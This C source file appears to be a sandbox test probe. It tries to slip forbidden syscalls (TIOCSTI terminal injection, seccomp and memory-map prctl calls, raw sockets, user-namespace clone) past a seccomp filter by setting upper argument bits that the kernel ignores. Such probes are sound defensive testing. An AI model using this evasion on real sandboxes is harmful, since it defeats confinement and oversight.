// The kernel reads 32 bits of these arguments, and a filter that compares 64 bits lets the rest
// through. Repeats each forbidden value with higher bits that the kernel ignores.
#include "places.h"
#include <linux/futex.h>
#include <linux/sched.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>

static const unsigned long above = 0x100000000, all_above = 0xffffffff00000000;

static void twice(const char *name, long number, unsigned long value, long last) {
    char text[64];
    for (int turn = 0; turn < 2; turn++) {
        snprintf(text, sizeof text, "%s %d", name, turn + 1);
        say(text, syscall(number, value | (turn ? all_above : above), last, 0, 0, 0, 0));
    }
}

static void twice_on(int file, const char *name, long number, unsigned long value, long last) {
    char text[64];
    for (int turn = 0; turn < 2; turn++) {
        snprintf(text, sizeof text, "%s %d", name, turn + 1);
        say(text, syscall(number, file, value | (turn ? all_above : above), last, 0, 0, 0));
    }
}

int attack(int count, char **arguments) {
    static int word;
    int folder = open("/", O_RDONLY | O_DIRECTORY), memory = memfd_create("own", 0), ends[2];
    if (folder < 0 || memory < 0 || socketpair(AF_UNIX, SOCK_STREAM, 0, ends)) return 5;
    char typed = 'x';
    long long size;
    int yes = 1;
    twice_on(0, "ioctl TIOCSTI", SYS_ioctl, TIOCSTI, (long)&typed);
    twice_on(folder, "ioctl FIOQSIZE", SYS_ioctl, FIOQSIZE, (long)&size);
    twice_on(memory, "fcntl F_SETLEASE", SYS_fcntl, F_SETLEASE, F_WRLCK);
    twice_on(folder, "fcntl F_NOTIFY", SYS_fcntl, F_NOTIFY, 1);
    twice("prctl PR_SET_MM", SYS_prctl, PR_SET_MM, 1);
    twice("prctl PR_SET_SECCOMP", SYS_prctl, PR_SET_SECCOMP, 2);
    twice("prctl PR_SET_SYSCALL_USER_DISPATCH", SYS_prctl, 59, 0);
    for (int turn = 0; turn < 2; turn++) {
        unsigned long high = turn ? all_above : above;
        char text[64];
        snprintf(text, sizeof text, "futex FUTEX_LOCK_PI %d", turn + 1);
        say(text, syscall(SYS_futex, &word, high | FUTEX_LOCK_PI, 0, 0, 0, 0));
        word = 0;
        snprintf(text, sizeof text, "socket AF_NETLINK %d", turn + 1);
        say(text, syscall(SYS_socket, high | AF_NETLINK, SOCK_RAW, 0));
        snprintf(text, sizeof text, "socket AF_INET SOCK_RAW %d", turn + 1);
        say(text, syscall(SYS_socket, high | AF_INET, high | SOCK_RAW, high | 1));
        snprintf(text, sizeof text, "setsockopt SO_TIMESTAMP %d", turn + 1);
        say(text, syscall(SYS_setsockopt, ends[0], high | SOL_SOCKET, high | SO_TIMESTAMP, &yes,
                          sizeof yes));
        snprintf(text, sizeof text, "clone user %d", turn + 1);
        long child = syscall(SYS_clone, high | CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
        if (child == 0) _exit(0);
        say(text, child);
        if (child > 0) waitpid(child, NULL, 0);
    }
    close(folder), close(memory), close(ends[0]), close(ends[1]);
    return 0;
}
